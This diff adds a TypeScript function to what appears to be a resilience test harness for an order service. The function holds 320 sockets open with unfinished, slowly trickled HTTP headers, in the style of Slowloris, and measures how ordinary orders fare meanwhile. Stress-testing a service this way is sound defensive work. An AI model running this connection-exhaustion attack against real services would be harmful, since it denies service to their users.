@@ -221,3 +221,38 @@ export async function probeHold(
   await attack;
   return { victim: victimFigures(victims) };
 }
+
+/**
+ * Keyless sockets that trickle their headers: `sockets` of them kept open (each reopened when closed), each sending a
+ * request's first lines and then a header line every `trickleMs`, never finishing. The victim sends ordinary orders
+ * at 5 a second after `settleMs`, for `seconds`.
+ */
+export async function tricklingSockets(
+  service: URL,
+  victim: Sender,
+  { sockets = 320, trickleMs = 500, seconds = 6, settleMs = 1500 } = {},
+): Promise<{ victim: VictimFigures; reopened: number }> {
+  const { connect } = await import('node:net');
+  const until = performance.now() + settleMs + seconds * 1000;
+  let reopened = 0;
+  const open = new Set<import('node:net').Socket>();
+  const keepOne = (): void => {
+    if (performance.now() >= until) return;
+    const socket = connect(Number(service.port), service.hostname);
+    open.add(socket);
+    socket.on('error', () => {});
+    socket.once('connect', () => socket.write(`POST /order HTTP/1.1\r\nHost: ${service.host}\r\n`));
+    const trickle = setInterval(() => socket.write('X-Trickle: 1\r\n'), trickleMs);
+    socket.once('close', () => {
+      clearInterval(trickle);
+      open.delete(socket);
+      reopened++;
+      keepOne();
+    });
+  };
+  for (let i = 0; i < sockets; i++) keepOne();
+  await pause(settleMs);
+  const victims = await sendAtRate(victim, 5, until, () => freshOrder({}, VICTIM_PREFIX));
+  for (const socket of open) socket.destroy();
+  return { victim: victimFigures(victims), reopened };
+}
